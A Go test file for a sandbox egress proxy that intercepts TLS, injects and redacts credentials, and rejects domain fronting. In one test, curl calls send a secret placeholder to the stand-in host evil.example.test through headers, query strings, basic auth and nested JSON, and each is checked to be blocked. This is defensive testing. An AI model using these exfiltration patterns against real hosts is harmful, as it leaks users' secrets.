package egress

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/hutchdev/hutch/egresshandler"
	"github.com/hutchdev/hutch/errdefs"
	"github.com/hutchdev/hutch/internal/egress/audit"
	"github.com/hutchdev/hutch/internal/egress/egresstest"
	"github.com/hutchdev/hutch/internal/egress/inject"
	"github.com/hutchdev/hutch/internal/egress/mitm"
	"github.com/hutchdev/hutch/internal/egress/policy"
	"github.com/hutchdev/hutch/internal/egress/proxy"
	"github.com/hutchdev/hutch/internal/egress/webhook"
	"github.com/hutchdev/hutch/internal/netns"
)

// interceptHarness is an egress Service with interception on, a fake internet, one sandbox
// namespace with a policy in a registry, and the sandbox CA on disk for clients.
type interceptHarness struct {
	*harness
	net    *egresstest.Internet
	reg    *policy.Registry
	caFile string
	sbID   string
}

func newInterceptHarness(t *testing.T, secrets map[string]string, spec policy.Spec) (*interceptHarness, *netns.Net) {
	return newInterceptHarnessWith(t, secrets, spec, nil, nil)
}

func newInterceptHarnessWith(t *testing.T, secrets map[string]string, spec policy.Spec, tokens map[string]string, alog *audit.Log, mods ...func(*Config)) (*interceptHarness, *netns.Net) {
	t.Helper()
	requirePrivileges(t)
	inet := egresstest.NewInternet(t, egresstest.InternetConfig{GitToken: secrets["GIT_TOKEN"]})
	ca, err := mitm.NewCA("sbx", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	reg := policy.NewRegistry()
	c, err := policy.Compile(spec)
	if err != nil {
		t.Fatal(err)
	}
	reg.Set("sbx", c)
	icfg := &proxy.InterceptConfig{
		Leaf: func(_ context.Context, _, host string) (*tls.Certificate, error) {
			return ca.MintLeaf(host, time.Now())
		},
		Secret: func(_ context.Context, name string) ([]byte, error) {
			v, ok := secrets[name]
			if !ok {
				return nil, errdefs.Newf(errdefs.CodeSecretNotFound, "no secret %s", name)
			}
			return []byte(v), nil
		},
		RootCAs: inet.CAPool,
		Placeholders: func(context.Context, string) (map[string]string, error) {
			return tokens, nil
		},
	}
	cfg := Config{
		Resolver:  inet.Resolver(),
		Policy:    reg,
		Audit:     alog,
		Intercept: icfg,
	}
	for _, m := range mods {
		m(&cfg)
	}
	h := newHarness(t, cfg)
	caFile := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(caFile, ca.CertPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	sb := h.sandbox("sbx", 3, true)
	return &interceptHarness{harness: h, net: inet, reg: reg, caFile: caFile, sbID: "sbx"}, sb
}

const apiToken = "tok_live_0123456789abcdefSECRET"

func TestInterceptInjectsAndRedacts(t *testing.T) {
	ih, sb := newInterceptHarness(t, map[string]string{"API_TOKEN": apiToken, "GIT_TOKEN": "gitpass_987654321XYZ"}, policy.Spec{
		Rules: []policy.Rule{
			{ID: "api-admin", Hosts: []string{"api.example.test"}, Match: &policy.Match{Path: &policy.PathMatch{Prefix: "/admin"}}, Action: policy.ActionDeny},
			{ID: "api", Hosts: []string{"api.example.test"}, Action: policy.ActionInject,
				Inject: &policy.Inject{SetHeaders: map[string]string{"Authorization": "Bearer ${secrets.API_TOKEN}"}, RemoveHeaders: []string{"X-Remove-Me"}}},
			{ID: "git", Hosts: []string{"git.example.test"}, Action: policy.ActionInject,
				Inject: &policy.Inject{BasicAuth: &policy.BasicAuth{Username: "x-access-token", Password: "${secrets.GIT_TOKEN}"}}},
		},
	})
	ca := ih.caFile
	// The sandbox spoofs the address (the sink): the proxy still dials the name it authorised.
	spoof := "api.example.test:443:" + egresstest.SinkIP

	t.Run("inject replaces the sandbox's header and the echo is redacted", func(t *testing.T) {
		body, status, err := curl(sb, "--cacert", ca, "--resolve", spoof, "-H", "Authorization: Bearer mine",
			"-H", "X-Remove-Me: 1", "-H", "Hutch-Signature: forged", "-H", "Accept-Encoding: gzip", "https://api.example.test/headers")
		if err != nil || status != "200" {
			t.Fatalf("status %s err %v body %s", status, err, body)
		}
		if strings.Contains(body, apiToken) || !strings.Contains(body, "[redacted:API_TOKEN]") {
			t.Fatalf("echo not redacted: %s", body)
		}
		reqs := ih.net.APIRequests()
		last := reqs[len(reqs)-1]
		if got := last.Header.Get("Authorization"); got != "Bearer "+apiToken {
			t.Fatalf("upstream Authorization %q", got)
		}
		if last.Header.Get("X-Remove-Me") != "" || last.Header.Get("Hutch-Signature") != "" {
			t.Fatalf("headers not stripped: %v", last.Header)
		}
		for _, h := range ih.net.SinkHits() {
			t.Errorf("sink was reached: %+v", h)
		}
	})

	t.Run("h2 is negotiated with the proxy and rules apply per request", func(t *testing.T) {
		out, err := run(sb, "curl", "-sS", "--max-time", "20", "--http2", "--cacert", ca, "-o", "/dev/null", "-o", "/dev/null", "-w", "%{http_version} %{http_code}\n",
			"https://api.example.test/headers", "https://api.example.test/admin/x")
		if err != nil || out != "2 200\n2 403\n" {
			t.Fatalf("h2: %q %v", out, err)
		}
	})

	t.Run("Host differing from SNI is 421 and never reaches upstream", func(t *testing.T) {
		before := len(ih.net.APIRequests())
		body, status, _ := curl(sb, "--cacert", ca, "-H", "Host: evil.example.test", "https://api.example.test/headers")
		if status != "421" || !strings.Contains(body, string(errdefs.CodeEgressMisdirected)) {
			t.Fatalf("fronting: %s %s", status, body)
		}
		_, status, _ = curl(sb, "--http2", "--cacert", ca, "-H", "Host: evil.example.test", "https://api.example.test/headers")
		if status != "421" {
			t.Fatalf("h2 fronting: %s", status)
		}
		if n := len(ih.net.APIRequests()); n != before {
			t.Fatalf("upstream saw %d fronted requests", n-before)
		}
	})

	t.Run("an untrusted client fails the handshake; tunnelled hosts are untouched", func(t *testing.T) {
		if _, status, err := curl(sb, "https://api.example.test/headers"); err == nil || status != "000" {
			t.Fatalf("client without the sandbox CA: %s %v", status, err)
		}
		// other.example.test has no rule: spliced, so it verifies with the upstream's CA.
		body, status, err := curl(sb, "--cacert", ih.net.CAFile, "https://other.example.test/headers")
		if err != nil || status != "200" || strings.Contains(body, "redacted") {
			t.Fatalf("tunnel: %s %v %s", status, err, body)
		}
	})

	t.Run("streamed response flows through the redactor", func(t *testing.T) {
		body, status, err := curl(sb, "--cacert", ca, "-N", "https://api.example.test/stream?chunks=5&ms=20")
		if err != nil || status != "200" || body == "" {
			t.Fatalf("stream: %s %v %q", status, err, body)
		}
	})

	t.Run("git clones with an injected Basic token and no credentials in the sandbox", func(t *testing.T) {
		if _, err := exec.LookPath("git"); err != nil {
			t.Skip("needs git")
		}
		dir := t.TempDir()
		out, err := run(sb, "git", "-c", "http.sslCAInfo="+ca, "clone", "-q", "https://git.example.test"+ih.net.RepoPath, filepath.Join(dir, "repo"))
		if err != nil {
			t.Fatalf("clone: %v\n%s", err, out)
		}
		b, err := os.ReadFile(filepath.Join(dir, "repo", "README"))
		if err != nil || !strings.Contains(string(b), "hello from hxnet") {
			t.Fatalf("README %q %v", b, err)
		}
		cfg, _ := os.ReadFile(filepath.Join(dir, "repo", ".git", "config"))
		if strings.Contains(string(cfg), "gitpass") {
			t.Fatal("token in the clone's config")
		}
	})

	t.Run("rotating the secret or changing the rule takes effect on the next request", func(t *testing.T) {
		c, _ := policy.Compile(policy.Spec{Rules: []policy.Rule{{ID: "api2", Hosts: []string{"api.example.test"}, Action: policy.ActionInject,
			Inject: &policy.Inject{SetHeaders: map[string]string{"X-Api-Key": "${secrets.API_TOKEN}"}}}}})
		ih.reg.Set("sbx", c)
		body, status, err := curl(sb, "--cacert", ca, "https://api.example.test/headers")
		if err != nil || status != "200" {
			t.Fatalf("%s %v", status, err)
		}
		var echo struct {
			Headers map[string][]string `json:"headers"`
		}
		json.Unmarshal([]byte(body), &echo)
		reqs := ih.net.APIRequests()
		last := reqs[len(reqs)-1]
		if last.Header.Get("X-Api-Key") != apiToken || last.Header.Get("Authorization") != "" {
			t.Fatalf("new rule not applied: %v", last.Header)
		}
	})
}

func TestInterceptPlaceholders(t *testing.T) {
	alog, err := audit.New(t.TempDir(), 0, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer alog.Close()
	tok := inject.NewPlaceholder()
	ph := "sk-" + tok
	ih, sb := newInterceptHarnessWith(t, map[string]string{"OPENAI": apiToken, "EXTRA": "extra-secret-value-42"}, policy.Spec{
		Inspect: policy.InspectAll,
		// A rule on the same host: its redactions add to the placeholder's.
		Rules: []policy.Rule{{ID: "extra", Hosts: []string{"api.example.test"}, Action: policy.ActionInject,
			Inject: &policy.Inject{SetHeaders: map[string]string{"X-Extra": "${secrets.EXTRA}"}}}},
		Placeholders: []policy.Placeholder{{Secret: "OPENAI", Env: "OPENAI_API_KEY", Hosts: []string{"api.example.test"}, Prefix: "sk-"}},
	}, map[string]string{"OPENAI": tok}, alog)
	ca := ih.caFile

	t.Run("swapped towards the bound host, echo redacted back to the placeholder", func(t *testing.T) {
		// Abuse test 6, allowed host: only Authorization is swapped; X-Note (out of scope)
		// goes unchanged, so the echo shows the placeholder there too.
		body, status, err := curl(sb, "--cacert", ca, "-H", "Authorization: Bearer "+ph, "-H", "X-Note: "+ph, "https://api.example.test/headers")
		if err != nil || status != "200" {
			t.Fatalf("%s %v %s", status, err, body)
		}
		reqs := ih.net.APIRequests()
		last := reqs[len(reqs)-1]
		if got := last.Header.Get("Authorization"); got != "Bearer "+apiToken {
			t.Fatalf("upstream saw %q", got)
		}
		if got := last.Header.Get("X-Note"); got != ph {
			t.Fatalf("upstream X-Note %q, want the placeholder unchanged", got)
		}
		if strings.Contains(body, apiToken) || strings.Count(body, ph) != 2 || strings.Contains(body, "extra-secret") || !strings.Contains(body, "[redacted:EXTRA]") {
			t.Fatalf("echo not redacted: %s", body)
		}
		// A JSON body to the allowed host is not in scope either: sent unchanged.
		jsonBody := `{"note":"` + ph + `"}`
		body, status, err = curl(sb, "--cacert", ca, "-H", "Authorization: Bearer "+ph, "-H", "Content-Type: application/json",
			"--data-binary", jsonBody, "https://api.example.test/upload")
		if err != nil || status != "200" || body != fmt.Sprintf("{\"bytes\":%d}\n", len(jsonBody)) {
			t.Fatalf("json body to the allowed host: %s %v %q", status, err, body)
		}
	})

	t.Run("sent elsewhere: 403 EGRESS_PLACEHOLDER_VIOLATION and an audit event", func(t *testing.T) {
		for _, args := range [][]string{
			{"-H", "Authorization: Bearer " + ph, "https://evil.example.test/"},
			{"-H", "X-Note: " + ph, "https://evil.example.test/"},
			{"https://evil.example.test/?k=" + ph},
			{"https://evil.example.test/?k=" + strings.ReplaceAll(ph, "_", "%5F")}, // URL-encoded
			{"-u", "user:" + ph, "https://evil.example.test/"},
			{"--data", `{"k":"` + ph + `"}`, "https://evil.example.test/"},
			{"--data", `{"msg":"{\"key\":\"` + ph + `\"}"}`, "https://evil.example.test/"}, // JSON inside JSON
		} {
			body, status, _ := curl(sb, append([]string{"--cacert", ca}, args...)...)
			if status != "403" || !strings.Contains(body, string(errdefs.CodeEgressPlaceholderViolation)) {
				t.Errorf("%v: %s %s", args, status, body)
			}
		}
		for _, h := range ih.net.SinkHits() {
			if strings.Contains(string(h.Data), tok) || strings.Contains(string(h.Data), apiToken) {
				t.Errorf("sink received %q", h.Data)
			}
		}
		alog.Flush()
		evs, err := alog.Read("sbx", 0, 1000)
		if err != nil {
			t.Fatal(err)
		}
		violations := 0
		for _, e := range evs {
			b, _ := json.Marshal(e)
			if strings.Contains(string(b), apiToken) || strings.Contains(string(b), tok) {
				t.Errorf("audit event holds a secret or placeholder: %s", b)
			}
			if e.Kind == audit.KindViolation && e.Host == "evil.example.test" && e.Secrets[0] == "OPENAI" {
				violations++
			}
		}
		if violations < 7 {
			t.Fatalf("%d violation events, want 7", violations)
		}
	})
}

func TestInterceptHandler(t *testing.T) {
	sock := filepath.Join(t.TempDir(), "h.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	hmacKey := "handler-signing-key-xyz"
	var seen http.Header
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f, err := egresshandler.Verify(r, []byte(hmacKey), time.Now())
		if err != nil {
			http.Error(w, err.Error(), http.StatusUnauthorized)
			return
		}
		seen = r.Header.Clone()
		io.WriteString(w, "from-handler "+f.URL.String())
	})}
	go srv.Serve(ln)
	defer srv.Close()
	h, err := webhook.New("ops", webhook.Config{URL: "unix:" + sock, SigningSecret: "HMAC"})
	if err != nil {
		t.Fatal(err)
	}
	ih, sb := newInterceptHarnessWith(t, map[string]string{"HMAC": hmacKey}, policy.Spec{
		Rules: []policy.Rule{
			{ID: "hook", Hosts: []string{"hook.example.test"}, Action: policy.ActionHandler, Handler: "ops"},
			{ID: "gone", Hosts: []string{"gone.example.test"}, Action: policy.ActionHandler, Handler: "missing"},
		},
	}, nil, nil, func(c *Config) { c.Intercept.Handlers = map[string]*webhook.Handler{"ops": h} })
	body, status, err := curl(sb, "--cacert", ih.caFile, "-H", "Hutch-Signature: v1=forged", "-H", "Hutch-Forwarded-Host: internal",
		"-H", "Hutch-Sandbox: other", "https://hook.example.test/v1/x?y=1")
	if err != nil || status != "200" || body != "from-handler https://hook.example.test/v1/x?y=1" {
		t.Fatalf("handler: %s %v %q", status, err, body)
	}
	if seen.Get("Hutch-Sandbox") != "sbx" || seen.Get("Hutch-Forwarded-Host") != "hook.example.test" || len(seen.Values("Hutch-Signature")) != 1 {
		t.Fatalf("handler saw %v", seen)
	}
	if n := len(ih.net.APIRequests()); n != 0 {
		t.Fatalf("the public host was contacted %d times", n)
	}
	body, status, _ = curl(sb, "--cacert", ih.caFile, "https://gone.example.test/")
	if status != "502" || !strings.Contains(body, string(errdefs.CodeEgressHandlerUnavailable)) {
		t.Fatalf("missing handler: %s %s", status, body)
	}
}

func TestInterceptUpstreamRoute(t *testing.T) {
	// The operator's internal API: TLS on loopback with a certificate of its own CA.
	upCA, _ := mitm.NewCA("upstream", time.Now())
	leaf, _ := upCA.MintLeaf("api.internal.test", time.Now())
	ln, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{*leaf}})
	if err != nil {
		t.Fatal(err)
	}
	var gotAuth, gotHost string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotAuth, gotHost = r.Header.Get("Authorization"), r.Host
		io.WriteString(w, "internal:"+r.URL.Path)
	})}
	go srv.Serve(ln)
	defer srv.Close()
	ih, sb := newInterceptHarnessWith(t, map[string]string{"INTERNAL": "Zq81-tok-5fKx9wPmR3"}, policy.Spec{
		Rules: []policy.Rule{{ID: "internal", Hosts: []string{"api.internal.test"}, Action: policy.ActionInject, Upstream: "internal-api",
			Inject: &policy.Inject{SetHeaders: map[string]string{"Authorization": "Bearer ${secrets.INTERNAL}"}}}},
	}, nil, nil, func(c *Config) {
		c.Intercept.RootCAs = c.Intercept.RootCAs.Clone()
		c.Intercept.RootCAs.AddCert(upCA.Cert)
		c.Upstreams = map[string]string{"internal-api": ln.Addr().String()}
	})
	body, status, err := curl(sb, "--cacert", ih.caFile, "--resolve", "api.internal.test:443:"+egresstest.SinkIP, "https://api.internal.test/v1/x")
	if err != nil || status != "200" || body != "internal:/v1/x" {
		t.Fatalf("routed: %s %v %q", status, err, body)
	}
	if gotAuth != "Bearer Zq81-tok-5fKx9wPmR3" || gotHost != "api.internal.test" {
		t.Fatalf("upstream saw %q %q", gotAuth, gotHost)
	}
	for _, h := range ih.net.SinkHits() {
		t.Errorf("sink reached: %+v", h)
	}
}

// sandboxClient is an HTTP client whose connections are made inside n and which trusts only
// caFile.
func sandboxClient(t *testing.T, n *netns.Net, caFile string, h2 bool) *http.Client {
	t.Helper()
	pem, err := os.ReadFile(caFile)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	tr := &http.Transport{
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			// Any address: the firewall redirects it; the proxy goes by SNI.
			return dialFrom(t, n, "tcp", net.JoinHostPort(egresstest.APIIP, "443"))
		},
		TLSClientConfig:   &tls.Config{RootCAs: pool},
		ForceAttemptHTTP2: h2,
	}
	t.Cleanup(tr.CloseIdleConnections)
	return &http.Client{Transport: tr, Timeout: 60 * time.Second}
}

func TestInterceptStreamingAndWebSocket(t *testing.T) {
	ih, sb := newInterceptHarness(t, map[string]string{"API_TOKEN": apiToken}, policy.Spec{
		Rules: []policy.Rule{{ID: "api", Hosts: []string{"api.example.test"}, Action: policy.ActionInject,
			Inject: &policy.Inject{SetHeaders: map[string]string{"Authorization": "Bearer ${secrets.API_TOKEN}"}}}},
	})
	for _, h2 := range []bool{false, true} {
		t.Run(fmt.Sprintf("ack-gated SSE through the redactor (h2=%v)", h2), func(t *testing.T) {
			hc := sandboxClient(t, sb, ih.caFile, h2)
			id := fmt.Sprintf("s%v", h2)
			resp, err := hc.Get("https://api.example.test/sse?n=5&id=" + id)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			if (resp.ProtoMajor == 2) != h2 {
				t.Fatalf("proto %s", resp.Proto)
			}
			br := bufio.NewReader(resp.Body)
			for i := 1; i <= 5; i++ {
				line, err := br.ReadString('\n')
				if err != nil || line != fmt.Sprintf("data: %d\n", i) {
					t.Fatalf("event %d: %q %v (a buffering proxy stalls here)", i, line, err)
				}
				br.ReadString('\n')
				if i < 5 {
					ack, err := hc.Post(fmt.Sprintf("https://api.example.test/sse/ack?id=%s&n=%d", id, i), "text/plain", nil)
					if err != nil {
						t.Fatal(err)
					}
					ack.Body.Close()
				}
			}
		})
	}
	t.Run("WebSocket upgrade is proxied and carries the injected header", func(t *testing.T) {
		hc := sandboxClient(t, sb, ih.caFile, false)
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		ws, _, err := websocket.Dial(ctx, "wss://api.example.test/ws", &websocket.DialOptions{HTTPClient: hc})
		if err != nil {
			t.Fatal(err)
		}
		defer ws.CloseNow()
		if err := ws.Write(ctx, websocket.MessageText, []byte("hi")); err != nil {
			t.Fatal(err)
		}
		_, msg, err := ws.Read(ctx)
		if err != nil || string(msg) != "echo:hi" {
			t.Fatalf("ws echo %q %v", msg, err)
		}
		reqs := ih.net.APIRequests()
		last := reqs[len(reqs)-1]
		if last.Path != "/ws" || last.Header.Get("Authorization") != "Bearer "+apiToken {
			t.Fatalf("upgrade request upstream: %s %v", last.Path, last.Header)
		}
	})
}

func TestInterceptFrontingOnKeepAliveAndRedirects(t *testing.T) {
	ih, sb := newInterceptHarness(t, map[string]string{"API_TOKEN": apiToken}, policy.Spec{
		Rules: []policy.Rule{{ID: "api", Hosts: []string{"api.example.test"}, Action: policy.ActionInject,
			Inject: &policy.Inject{SetHeaders: map[string]string{"Authorization": "Bearer ${secrets.API_TOKEN}"}}}},
	})
	for _, h2 := range []bool{false, true} {
		hc := sandboxClient(t, sb, ih.caFile, h2)
		get := func(host string) int {
			req, _ := http.NewRequest("GET", "https://api.example.test/headers", nil)
			req.Host = host
			resp, err := hc.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			return resp.StatusCode
		}
		before := len(ih.net.APIRequests())
		// One connection: a legitimate request, then another Host on the same connection.
		if s := get("api.example.test"); s != 200 {
			t.Fatalf("h2=%v legit: %d", h2, s)
		}
		if s := get("evil.example.test"); s != http.StatusMisdirectedRequest {
			t.Fatalf("h2=%v fronted on keep-alive: %d", h2, s)
		}
		if n := len(ih.net.APIRequests()) - before; n != 1 {
			t.Fatalf("h2=%v upstream saw %d requests, want 1", h2, n)
		}
	}
	// A redirect to another allowed host (no rule: tunnelled) is the client's new request and
	// carries no injected credential.
	both := filepath.Join(t.TempDir(), "both.pem")
	sbCA, _ := os.ReadFile(ih.caFile)
	os.WriteFile(both, append(sbCA, ih.net.CAPEM...), 0o644)
	body, status, err := curl(sb, "--cacert", both, "-L",
		"https://api.example.test/redirect?to=https://other.example.test/headers")
	if err != nil || status != "200" {
		t.Fatalf("redirect: %s %v %s", status, err, body)
	}
	reqs := ih.net.APIRequests()
	last := reqs[len(reqs)-1]
	if last.Host != "other.example.test" || last.Header.Get("Authorization") != "" {
		t.Fatalf("redirected request: host %s auth %q", last.Host, last.Header.Get("Authorization"))
	}
}
